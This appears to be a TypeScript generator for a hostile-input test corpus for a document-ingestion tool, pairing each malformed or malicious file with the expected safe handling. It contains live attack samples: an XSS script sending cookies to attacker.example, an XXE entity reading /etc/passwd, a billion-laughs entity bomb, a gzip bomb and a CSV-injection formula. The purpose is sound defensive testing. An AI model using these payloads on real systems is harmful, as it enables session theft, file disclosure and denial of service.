// The hostile-input corpus, generated at test time into a temporary folder (nothing large or
// binary is committed). Each entry says what Vigil must do with it and what "safe" means for it;
// test/hostile/hostile-corpus.test.ts ingests the folder through the CLI and the HTTP upload route
// and holds Vigil to that table. All the article text here is written for these tests.
//
//   npx tsx test/hostile/make-corpus.ts /tmp/hostile   # to look at it by hand

import { execFileSync } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  createWriteStream,
  linkSync,
  mkdirSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { makePdf, textPage } from "../helpers/make-pdf.js";

/** What must happen to one input. */
export type Outcome =
  /** Stored, every document of it (the count), each passing `check` when given. */
  | { kind: "stored"; documents: number }
  /** Refused with this code, once per input (or per named part: `parts`). */
  | { kind: "rejected"; code: string; parts?: number }
  /** A batch: some documents stored, some parts refused. */
  | { kind: "mixed"; documents: number; rejected: Record<string, number> }
  /** Not read by a folder walk (an extension Vigil does not read); an upload is refused. */
  | { kind: "skipped" };

export interface HostileItem {
  /** Path relative to the corpus folder. */
  name: string;
  outcome: Outcome;
  /** What safe handling means for this input, for the table in the test's report. */
  safe: string;
  /** False for inputs that are not regular files (a FIFO, a device, a link loop): not uploadable. */
  upload: boolean;
  /** The outcome when uploaded, where it differs (a folder walk skips what an upload refuses). */
  uploadOutcome?: Outcome;
}

export interface CorpusOptions {
  /** Size of the single-line file (500 MB by default, as the issue asks). */
  hugeLineBytes?: number;
  /** Items of the large feed. */
  feedItems?: number;
  /** Whether this process can be denied a file (false as root: root reads a chmod 000 file). */
  canDenyRead?: boolean;
}

/** An upload with no body is a malformed request (400), not an item. */
const EMPTY_UPLOAD: Partial<HostileItem> = {
  uploadOutcome: { kind: "rejected", code: "VIGIL_ERR_USAGE" },
};

const ARTICLE = [
  "Court Hears Appeal of Provincial Blogger",
  "",
  "A provincial appeals court on Tuesday heard the case of blogger Tran Minh Khoa, who was",
  "sentenced last year to six years in prison under Article 117 of the Criminal Code.",
  "",
  "“My son only wrote about the flooding,” his mother, Le Thi Hoa, told reporters outside.",
  "The court is expected to rule next month.",
  "",
].join("\n");

const PARAGRAPH =
  "The district committee said in a statement that the detained volunteers would be released " +
  "after questioning, but relatives said they had not been allowed any visits.";

/** Writes the corpus into `dir` and returns the table of what each input must do. */
export async function makeHostileCorpus(
  dir: string,
  opts: CorpusOptions = {},
): Promise<HostileItem[]> {
  const items: HostileItem[] = [];
  const file = (
    name: string,
    bytes: string | Uint8Array,
    outcome: Outcome,
    safe: string,
    extra: Partial<HostileItem> = {},
  ): void => {
    const path = join(dir, name);
    mkdirSync(join(path, ".."), { recursive: true });
    writeFileSync(path, bytes);
    items.push({ name, outcome, safe, upload: true, ...extra });
  };
  const stored = (documents = 1): Outcome => ({ kind: "stored", documents });
  const rejected = (code: string, parts?: number): Outcome => ({
    kind: "rejected",
    code: `VIGIL_ERR_${code}`,
    ...(parts ? { parts } : {}),
  });

  // Good inputs, in the same batch: they must be stored whatever else fails.
  file("good/statement-2021-06-24.txt", ARTICLE, stored(), "a good article: stored");
  file(
    "good/release.md",
    "---\ntitle: Volunteers Released\ndate: 2021-07-02\n---\n\n" + PARAGRAPH + "\n",
    stored(),
    "a good Markdown article: stored",
  );

  // Binary and compressed data under text names.
  const elf = Buffer.alloc(4096);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]).copy(elf);
  file("binary-elf.txt", elf, rejected("SOURCE_BINARY"), "an ELF header: refused as binary");
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
    Buffer.from("IHDR"),
    Buffer.alloc(64, 1),
  ]);
  file("binary-png.md", png, rejected("SOURCE_BINARY"), "a PNG under a Markdown name: refused");
  const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]), elf]);
  file("archive-zip.txt", zip, rejected("SOURCE_BINARY"), "a ZIP named .txt: refused, not opened");
  // A gzip bomb: 256 MiB of zeros in about 250 KiB. Vigil never decompresses, so it stays small.
  const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
  file(
    "bomb-gzip.txt",
    bomb,
    rejected("SOURCE_BINARY"),
    "a gzip bomb named .txt: refused as binary, never inflated",
  );
  file(
    "bomb-gzip.jsonl",
    bomb,
    rejected("SOURCE_BINARY"),
    "a gzip bomb named .jsonl: refused whole as binary, not as hundreds of broken lines",
  );
  file(
    "bomb.txt.gz",
    bomb,
    { kind: "skipped" },
    "a real .gz: not a type Vigil reads (a folder walk passes over it; an upload is refused)",
    { uploadOutcome: rejected("SOURCE_UNSUPPORTED") },
  );
  file(
    "bomb-gzip.html",
    bomb,
    rejected("SOURCE_BINARY"),
    "a gzip bomb named .html: refused as binary",
  );

  // Size: a 500 MB line, written as a stream, and the same file as a JSONL batch (a hard link).
  const hugeBytes = opts.hugeLineBytes ?? 500 * 1000 * 1000;
  await writeLine(join(dir, "huge-line.txt"), hugeBytes);
  items.push({
    name: "huge-line.txt",
    outcome: rejected("SOURCE_TOO_LARGE"),
    safe: "a 500 MB single line: refused by its size (max-input-bytes) before it is read",
    upload: true,
    uploadOutcome: rejected("BODY_TOO_LARGE"),
  });
  linkSync(join(dir, "huge-line.txt"), join(dir, "huge-line.jsonl"));
  items.push({
    name: "huge-line.jsonl",
    outcome: rejected("SOURCE_TOO_LARGE"),
    safe: "a 500 MB JSONL line: streamed past and refused by the document limit, never held whole",
    upload: true,
    uploadOutcome: rejected("BODY_TOO_LARGE"),
  });

  // Markup.
  const depth = 100_000;
  file(
    "deep-nesting.html",
    `<html><head><title>Deep page</title></head><body>${"<div>".repeat(depth)}<p>${PARAGRAPH}</p>${"</div>".repeat(depth)}</body></html>`,
    stored(),
    "100,000 nested elements: not given to the DOM; the text is read by a linear scan",
  );
  file(
    "deep-nesting.rss",
    `<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title><item><title>x</title><description>${"<a>".repeat(depth)}${"</a>".repeat(depth)}</description></item></channel></rss>`,
    rejected("SOURCE_MALFORMED"),
    "a feed nested 100,000 deep: refused as malformed without exhausting the stack",
  );
  file(
    "script-payload.html",
    [
      "<!doctype html><html><head><title>Statement &lt;script&gt;alert(1)&lt;/script&gt;</title>",
      '<meta property="og:url" content="javascript:alert(document.cookie)">',
      "<script>document.location='https://attacker.example/'+document.cookie</script></head>",
      '<body><article><h1>Statement</h1><p onclick="alert(1)">' + PARAGRAPH + "</p>",
      '<img src=x onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>',
      "<p>" + PARAGRAPH + "</p></article></body></html>",
    ].join("\n"),
    stored(),
    "scripts and handlers: never run, dropped from the text; a javascript: URL is not kept",
  );
  file(
    "script-payload.txt",
    "Payload\n\n<script>alert('x')</script> <img src=x onerror=alert(1)>\n" + PARAGRAPH + "\n",
    stored(),
    "markup in plain text: stored as inert text (served as JSON, shown as text)",
  );
  file(
    "script-payload.md",
    "---\ntitle: <script>alert(1)</script>\nurl: javascript:alert(1)\n---\n\n" +
      PARAGRAPH +
      " Front matter.\n",
    stored(),
    "a script in front matter: the title is text; a javascript: URL is not kept",
  );
  file(
    "bogus-charset.html",
    `<html><head><meta charset="x-no-such-charset"></head><body><p>${PARAGRAPH}</p></body></html>`,
    rejected("SOURCE_UNSUPPORTED"),
    "an unknown declared charset: refused by name, not guessed",
  );
  file("empty.html", "", rejected("SOURCE_EMPTY"), "an empty page: refused", EMPTY_UPLOAD);
  file(
    "no-text.html",
    "<html><body><nav><a href='/'>Home</a></nav><script>var a=1;</script></body></html>",
    rejected("SOURCE_MALFORMED"),
    "a page without article text: refused",
  );

  // Encodings.
  file(
    "invalid-utf8.txt",
    Buffer.concat([Buffer.from("Nguy"), Buffer.from([0xea, 0x6e, 0xc3, 0x28]), Buffer.from("\n")]),
    rejected("SOURCE_ENCODING"),
    "bytes that are not UTF-8: refused with the byte offset",
  );
  file(
    "bom-utf8.txt",
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(ARTICLE.replace("Court", "Bom"))]),
    stored(),
    "a UTF-8 byte-order mark: dropped, the text stored",
  );
  file(
    "bom-utf16le.txt",
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`UTF-16 LE\n\n${PARAGRAPH}\n`, "utf16le"),
    ]),
    stored(),
    "UTF-16 LE with its mark: decoded and stored",
  );
  file(
    "bom-utf16be.md",
    Buffer.concat([
      Buffer.from([0xfe, 0xff]),
      Buffer.from(`# UTF-16 BE\n\n${PARAGRAPH} Big-endian.\n`, "utf16le").swap16(),
    ]),
    stored(),
    "UTF-16 BE with its mark: decoded and stored",
  );
  file(
    "nul-early.txt",
    Buffer.from("Title\n\nText with a\u0000NUL.\n"),
    rejected("SOURCE_BINARY"),
    "a NUL byte at the start: refused as binary",
  );
  file(
    "nul-late.txt",
    Buffer.from(`${`${PARAGRAPH}\n`.repeat(60)}Late\u0000NUL.\n`),
    rejected("SOURCE_BINARY"),
    "a NUL byte past the first 8 KiB: refused as binary too (never stored)",
  );
  file(
    "nul-escaped.jsonl",
    [
      JSON.stringify({ id: "nul-text", text: `Escaped\u0000NUL. ${PARAGRAPH}` }),
      JSON.stringify({ id: "nul-title", title: "A\u0000B", text: `${PARAGRAPH} Titled.` }),
    ].join("\n"),
    stored(2),
    "an escaped NUL (\\u0000) in a JSONL text or title: replaced by U+FFFD one for one (offsets kept)",
  );
  file(
    "lone-surrogate.jsonl",
    '{"id": "surrogate", "title": "\\udc00", "text": "Half a pair: \\ud800. ' + PARAGRAPH + '"}\n',
    stored(),
    "a lone UTF-16 surrogate in a JSONL text: replaced by U+FFFD one for one (offsets kept)",
  );
  file(
    "long-id.jsonl",
    JSON.stringify({ id: "\u001b[2J" + "x".repeat(100_000), text: `${PARAGRAPH} Long id.` }) + "\n",
    stored(),
    "a 100,000-character id with a terminal escape: stored; reports show it cut and escaped",
  );
  file(
    "entity-nul.html",
    `<html><head><title>Null &#0; and half &#xD800; pair</title></head><body><article><p>${PARAGRAPH} Entities.</p></article></body></html>`,
    stored(),
    "character references the database cannot hold (&#0;, &#xD800;): replaced, the page stored",
  );
  file(
    "control-bytes.txt",
    Buffer.from("\x1b[2J\x1b[31m\x07\x08\x1b[0m".repeat(40)),
    rejected("SOURCE_BINARY"),
    "mostly terminal escape sequences: refused as binary",
  );

  // Names.
  file(
    "rtl-\u202Etxt.exe.txt",
    `Name spoof\n\n${PARAGRAPH} The file name hides its real extension.\n`,
    stored(),
    "an RTL override in the name: stored; the name is shown with the override escaped",
  );
  file(
    "escape-\x1b[31mred.txt",
    `Escape name\n\n${PARAGRAPH} A terminal escape in the name.\n`,
    stored(),
    "a terminal escape in the name: stored; the name is shown escaped, never sent raw (an upload name with a control character is refused)",
    { uploadOutcome: rejected("INVALID_REQUEST") },
  );
  file(
    "empty-\x1b]0;owned\x07-\u202Egnp.txt",
    "",
    rejected("SOURCE_EMPTY"),
    "an empty file whose name sets the terminal title and flips the text: refused, the name printed escaped",
    { uploadOutcome: rejected("INVALID_REQUEST") },
  );
  const long = "long-" + "n".repeat(245) + ".txt";
  file(long, `Long name\n\n${PARAGRAPH} A very long file name.\n`, stored(), "a 254-byte name");

  // Numbers, dates and formulas in the text.
  const digits400 = "9".repeat(400);
  file(
    "enormous-numbers.txt",
    [
      "Enormous Numbers",
      "",
      "The ministry said 10^400 detainees had been released, a figure no one could check.",
      `A second statement put the number of detainees at ${digits400}.`,
      `Activists said ${digits400} people were arrested in the province.`,
      "Officials counted 1e400 visitors and 1,000,000,000,000,000,000,000 leaflets.",
      "",
    ].join("\n"),
    stored(),
    "numbers beyond any real count: no figure with an infinite or unsafe value is stored",
  );
  file(
    "malformed-dates.md",
    [
      "---",
      "title: Malformed Dates",
      "date: 2026-13-45",
      "---",
      "",
      "The trial was set for 2026-13-45, the court said, and postponed to 31 February 2027.",
      "The ministry said the law would stay in force until the year 99999.",
      "The blogger was arrested on 45/13/2026 and released on 99999-01-01.",
      "",
    ].join("\n"),
    stored(),
    "impossible dates: no date outside the calendar (month 13, day 45, year 99999) is stored",
  );
  file(
    "year-99999.jsonl",
    [
      JSON.stringify({ id: "y1", date: "99999-01-01", text: `${PARAGRAPH} One.` }),
      JSON.stringify({ id: "y2", date: "2026-13-45", text: `${PARAGRAPH} Two.` }),
      JSON.stringify({ id: "y3", date: "+275760-09-13", text: `${PARAGRAPH} Three.` }),
      JSON.stringify({ id: "y4", date: 1e308, text: `${PARAGRAPH} Four.` }),
    ].join("\n"),
    stored(4),
    "metadata dates out of range: the date left empty, the documents stored",
  );
  file(
    "csv-injection.txt",
    [
      "Formula",
      "",
      "=cmd|' /C calc'!A0 said the ministry had released every detainee.",
      "+SUM(1+1) and -2+3 and @SUM(A1) appeared in the leaflet, police said.",
      "",
    ].join("\n"),
    stored(),
    "spreadsheet formulas in article text: stored as text; CSV exports prefix them with '",
  );

  // Empty and broken batches.
  file("empty.txt", "", rejected("SOURCE_EMPTY"), "zero bytes: refused", EMPTY_UPLOAD);
  file("whitespace.md", " \n\t\n   \r\n", rejected("SOURCE_EMPTY"), "only whitespace: refused");
  file("empty.jsonl", "", rejected("SOURCE_EMPTY"), "an empty batch: refused", EMPTY_UPLOAD);
  file("empty.pdf", "", rejected("SOURCE_EMPTY"), "an empty PDF: refused", EMPTY_UPLOAD);
  file(
    "broken.jsonl",
    [
      JSON.stringify({ id: "good-1", text: `${PARAGRAPH} First good line.` }),
      '{"id": "cut", "text": "The line ends',
      "[1, 2, 3]",
      '{"id": "no-text"}',
      '{"id": "number", "text": 42}',
      JSON.stringify({ id: "good-2", text: `${PARAGRAPH} Second good line.` }),
      "not json at all",
    ].join("\n"),
    { kind: "mixed", documents: 2, rejected: { VIGIL_ERR_SOURCE_MALFORMED: 5 } },
    "broken lines: each refused with its line number; the good lines stored",
  );

  // Feeds. Ten thousand items, all but ten without text: each empty one is reported by its
  // number. (Storing ten thousand documents takes minutes; test/ingest reads such a feed whole.)
  const feedItems = opts.feedItems ?? 10_000;
  writeFileSync(join(dir, "feed-10k.rss"), bigFeed(feedItems, 10));
  items.push({
    name: "feed-10k.rss",
    outcome: {
      kind: "mixed",
      documents: Math.min(10, feedItems),
      rejected: feedItems > 10 ? { VIGIL_ERR_SOURCE_EMPTY: feedItems - 10 } : {},
    },
    safe: `${feedItems} items: each without text reported by its number, the ten with text stored`,
    upload: true,
  });
  file(
    "javascript-link.rss",
    `<?xml version="1.0"?><rss version="2.0"><channel><title>Links</title><link>javascript:alert(1)</link><item><title>Item</title><link>javascript:alert(2)</link><description>${PARAGRAPH} Linked.</description></item></channel></rss>`,
    stored(),
    "javascript: links in a feed: the item stored without them",
  );
  file(
    "billion-laughs.rss",
    [
      '<?xml version="1.0"?>',
      '<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
      ...Array.from(
        { length: 8 },
        (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`,
      ),
      "]>",
      "<rss version='2.0'><channel><title>Laughs</title><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>",
    ].join("\n"),
    rejected("SOURCE_MALFORMED"),
    "entity expansion (billion laughs): refused before any expansion",
  );
  file(
    "xxe.xml",
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>x</title><item><description>&xxe;</description></item></channel></rss>',
    rejected("SOURCE_MALFORMED"),
    "an external entity (XXE): refused; no file or URL is read",
  );
  file(
    "not-a-feed.rss",
    "<html><body>not a feed</body></html>",
    rejected("SOURCE_MALFORMED"),
    "HTML under a feed name: refused as not a feed",
  );

  // PDFs.
  file(
    "not-a-pdf.pdf",
    ARTICLE,
    rejected("SOURCE_MALFORMED"),
    "text under a PDF name: refused (no %PDF- header)",
  );
  const pdf = makePdf({ pages: [textPage(["A report page that is cut short."])] });
  file(
    "truncated.pdf",
    pdf.subarray(0, Math.floor(pdf.length / 3)),
    rejected("SOURCE_MALFORMED"),
    "a PDF cut to a third: refused as corrupt",
  );

  // The file system: links, devices, permissions.
  mkdirSync(join(dir, "loop"));
  writeFileSync(join(dir, "loop", "inside.txt"), `Inside the loop\n\n${PARAGRAPH} Looped.\n`);
  symlinkSync("..", join(dir, "loop", "back-up"));
  items.push({
    name: "loop/inside.txt",
    outcome: stored(),
    safe: "a file in a folder that links back to its parent: read once",
    upload: true,
  });
  items.push({
    name: "loop/back-up",
    outcome: rejected("SOURCE_UNREADABLE"),
    safe: "a link back to a folder being read: reported as a loop, not walked again",
    upload: false,
  });
  symlinkSync("self-link.txt", join(dir, "self-link.txt"));
  items.push({
    name: "self-link.txt",
    outcome: rejected("SOURCE_UNREADABLE"),
    safe: "a link to itself: reported (symbolic link loop)",
    upload: false,
  });
  symlinkSync("no-such-target.txt", join(dir, "dangling.txt"));
  items.push({
    name: "dangling.txt",
    outcome: rejected("SOURCE_UNREADABLE"),
    safe: "a link to nothing: reported as missing",
    upload: false,
  });
  symlinkSync("/dev/zero", join(dir, "dev-zero.txt"));
  items.push({
    name: "dev-zero.txt",
    outcome: rejected("SOURCE_UNREADABLE"),
    safe: "a link to /dev/zero: refused as not a regular file (never read, which would not end)",
    upload: false,
  });
  if (mkfifo(join(dir, "pipe.txt"))) {
    items.push({
      name: "pipe.txt",
      outcome: rejected("SOURCE_UNREADABLE"),
      safe: "a named pipe: refused as not a regular file (reading it would wait for ever)",
      upload: false,
    });
  }
  if (opts.canDenyRead ?? process.getuid?.() !== 0) {
    file("unreadable.txt", ARTICLE, rejected("SOURCE_UNREADABLE"), "chmod 000: permission denied", {
      upload: false,
    });
    chmodSync(join(dir, "unreadable.txt"), 0o000);
  }
  return items;
}

/** A file of one line of `bytes` letters, written in 1 MiB pieces (never held whole). */
async function writeLine(path: string, bytes: number): Promise<void> {
  const out = createWriteStream(path);
  const chunk = Buffer.alloc(1 << 20, "word ");
  for (let left = bytes; left > 0; left -= chunk.length) {
    if (!out.write(left >= chunk.length ? chunk : chunk.subarray(0, left)))
      await once(out, "drain");
  }
  out.end();
  await once(out, "finish");
}

/** A feed of `n` items, of which the first `withText` have text. */
function bigFeed(n: number, withText: number): string {
  const parts = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<rss version="2.0"><channel><title>Provincial Wire</title><link>https://wire.example.org/</link>',
  ];
  for (let i = 1; i <= n; i++) {
    const text =
      i <= withText ? `Bulletin ${i}: the district committee said volunteers were questioned.` : "";
    parts.push(
      `<item><title>Bulletin ${i}</title><guid>https://wire.example.org/b/${i}</guid>` +
        `<pubDate>Mon, 05 Jul 2021 08:00:00 +0700</pubDate><description>${text}</description></item>`,
    );
  }
  parts.push("</channel></rss>");
  return parts.join("\n");
}

function mkfifo(path: string): boolean {
  try {
    execFileSync("mkfifo", [path], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

// Run directly: writes the corpus into the folder named on the command line.
if (process.argv[1]?.endsWith("make-corpus.ts") && process.argv[2]) {
  const dir = process.argv[2];
  mkdirSync(dir, { recursive: true });
  const items = await makeHostileCorpus(dir);
  for (const i of items) console.log(`${i.outcome.kind.padEnd(8)} ${JSON.stringify(i.name)}`);
}
